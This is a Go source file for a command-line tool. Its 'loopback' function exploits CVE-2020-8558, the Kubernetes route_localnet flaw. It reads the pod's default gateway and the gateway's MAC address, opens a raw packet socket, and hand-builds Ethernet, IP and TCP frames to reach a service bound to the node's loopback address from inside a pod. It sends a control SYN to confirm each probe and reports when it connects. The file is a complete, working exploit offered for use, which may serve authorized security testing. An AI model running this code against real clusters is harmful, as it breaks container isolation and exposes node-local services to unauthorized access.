package main

import (
	"context"
	"encoding/binary"
	"errors"
	"fmt"
	"net"
	"net/netip"
	"os"
	"strings"
	"time"

	"golang.org/x/sys/unix"
)

const (
	// rounds is how often loopback sends its SYN.
	rounds = 3
	// patience is how long loopback waits for one answer of the gateway.
	patience = 30 * time.Second
	// flags of a TCP segment
	syn, ack = 0x02, 0x10
	// closedPort is a TCP port of the gateway where nothing listens, so that its kernel answers at once.
	closedPort = 1
)

// loopback tries to reach a listener on a loopback address of the machine that is this pod's gateway (CVE-2020-8558).
// The pod's own kernel would deliver such packets to the pod itself, so loopback makes the frames by hand. After each
// SYN it sends a second one to the gateway's own address. The gateway's kernel works on frames in their order, so its
// answer to the second SYN proves that it has handled the first.
func loopback(args []string) error {
	if len(args) != 1 {
		return errUsage
	}
	target, err := netip.ParseAddrPort(args[0])
	if err != nil {
		return err
	}
	gateway, err := defaultGateway()
	if err != nil {
		return err
	}
	l, err := newWire("eth0", gateway)
	if err != nil {
		return err
	}
	control := netip.AddrPortFrom(gateway, closedPort)
	for round := range uint16(rounds) {
		port := 40000 + round
		if err := errors.Join(l.send(target, port, 1, 0, syn), l.send(control, port, 1, 0, syn)); err != nil {
			return err
		}
		for {
			from, port, sequence, err := l.receive()
			if err != nil {
				return fmt.Errorf("wait for the gateway's answer: %w", err)
			}
			if from == target {
				if err := l.send(target, port, 2, sequence+1, ack); err != nil {
					return err
				}
				fmt.Println("connected to", target)
				return nil
			}
			if from == control && port == 40000+round {
				break
			}
		}
	}
	fmt.Println("no answer from", target)
	return nil
}

// defaultGateway reads the IPv4 gateway of this network namespace.
func defaultGateway() (netip.Addr, error) {
	table, err := os.ReadFile("/proc/net/route")
	if err != nil {
		return netip.Addr{}, err
	}
	for line := range strings.Lines(string(table)) {
		fields := strings.Fields(line)
		if len(fields) < 3 || fields[1] != "00000000" {
			continue
		}
		var raw uint32
		if _, err := fmt.Sscanf(fields[2], "%x", &raw); err != nil {
			return netip.Addr{}, err
		}
		return netip.AddrFrom4([4]byte(binary.NativeEndian.AppendUint32(nil, raw))), nil
	}
	return netip.Addr{}, errors.New("no default route")
}

// wire sends and receives TCP segments in Ethernet frames that it makes itself.
type wire struct {
	socket    int
	from      netip.Addr
	ours, hop net.HardwareAddr
}

func newWire(name string, gateway netip.Addr) (*wire, error) {
	device, err := net.InterfaceByName(name)
	if err != nil {
		return nil, err
	}
	l := &wire{ours: device.HardwareAddr}
	// The answer, a reset, shows that the kernel has learnt the gateway's Ethernet address.
	dialer := net.Dialer{Timeout: patience}
	conn, err := dialer.DialContext(context.Background(), "tcp4", netip.AddrPortFrom(gateway, closedPort).String())
	if err == nil {
		err = conn.Close()
	}
	if err != nil && !errors.Is(err, unix.ECONNREFUSED) {
		return nil, err
	}
	neighbours, err := os.ReadFile("/proc/net/arp")
	if err != nil {
		return nil, err
	}
	for line := range strings.Lines(string(neighbours)) {
		if fields := strings.Fields(line); len(fields) > 3 && fields[0] == gateway.String() {
			if l.hop, err = net.ParseMAC(fields[3]); err != nil {
				return nil, err
			}
		}
	}
	if l.hop == nil {
		return nil, fmt.Errorf("gateway %s has no Ethernet address", gateway)
	}
	addresses, err := device.Addrs()
	if err != nil {
		return nil, err
	}
	for _, a := range addresses {
		if p, err := netip.ParsePrefix(a.String()); err == nil && p.Addr().Is4() {
			l.from = p.Addr()
		}
	}
	protocol := binary.NativeEndian.Uint16(binary.BigEndian.AppendUint16(nil, unix.ETH_P_IP))
	if l.socket, err = unix.Socket(unix.AF_PACKET, unix.SOCK_RAW|unix.SOCK_CLOEXEC, int(protocol)); err != nil {
		return nil, fmt.Errorf("open packet socket: %w", err)
	}
	wait := unix.NsecToTimeval(patience.Nanoseconds())
	return l, errors.Join(unix.SetsockoptTimeval(l.socket, unix.SOL_SOCKET, unix.SO_RCVTIMEO, &wait),
		unix.Bind(l.socket, &unix.SockaddrLinklayer{Protocol: protocol, Ifindex: device.Index}))
}

// send sends a TCP segment without data.
func (l *wire) send(to netip.AddrPort, port uint16, sequence, acknowledged uint32, flags byte) error {
	from, dst := l.from.As4(), to.Addr().As4()
	tcp := binary.BigEndian.AppendUint16(nil, port)
	tcp = binary.BigEndian.AppendUint16(tcp, to.Port())
	tcp = binary.BigEndian.AppendUint32(tcp, sequence)
	tcp = binary.BigEndian.AppendUint32(tcp, acknowledged)
	tcp = append(tcp, 5<<4, flags, 0xff, 0xff, 0, 0, 0, 0)
	pseudo := append(append(from[:], dst[:]...), 0, unix.IPPROTO_TCP, 0, byte(len(tcp)))
	binary.BigEndian.PutUint16(tcp[16:], checksum(append(pseudo, tcp...)))

	ip := []byte{4<<4 | 5, 0, 0, byte(20 + len(tcp)), 0, 0, 0, 0, 64, unix.IPPROTO_TCP, 0, 0}
	ip = append(append(ip, from[:]...), dst[:]...)
	binary.BigEndian.PutUint16(ip[10:], checksum(ip))

	frame := append(append([]byte{}, l.hop...), l.ours...)
	frame = binary.BigEndian.AppendUint16(frame, unix.ETH_P_IP)
	if _, err := unix.Write(l.socket, append(append(frame, ip...), tcp...)); err != nil {
		return fmt.Errorf("send to %s: %w", to, err)
	}
	return nil
}

// receive returns the next TCP segment to this pod: its sender, the local port and the sequence number.
func (l *wire) receive() (from netip.AddrPort, port uint16, sequence uint32, err error) {
	frame := make([]byte, 2048)
	for {
		n, err := unix.Read(l.socket, frame)
		if errors.Is(err, unix.EINTR) {
			continue
		}
		if err != nil {
			return from, 0, 0, err
		}
		const ethernet, least = 14, 20
		if n < ethernet+2*least || frame[ethernet]>>4 != 4 || frame[ethernet+9] != unix.IPPROTO_TCP {
			continue
		}
		ip := frame[ethernet:n]
		tcp := ip[int(ip[0]&0xf)*4:]
		if len(tcp) < least || netip.AddrFrom4([4]byte(ip[16:])) != l.from {
			continue
		}
		return netip.AddrPortFrom(netip.AddrFrom4([4]byte(ip[12:])), binary.BigEndian.Uint16(tcp)),
			binary.BigEndian.Uint16(tcp[2:]), binary.BigEndian.Uint32(tcp[4:]), nil
	}
}

// checksum is the Internet checksum (RFC 1071).
func checksum(text []byte) uint16 {
	var sum uint32
	for i := 0; i < len(text)-1; i += 2 {
		sum += uint32(binary.BigEndian.Uint16(text[i:]))
	}
	for sum > 0xffff {
		sum = sum>>16 + sum&0xffff
	}
	return ^uint16(sum)
}
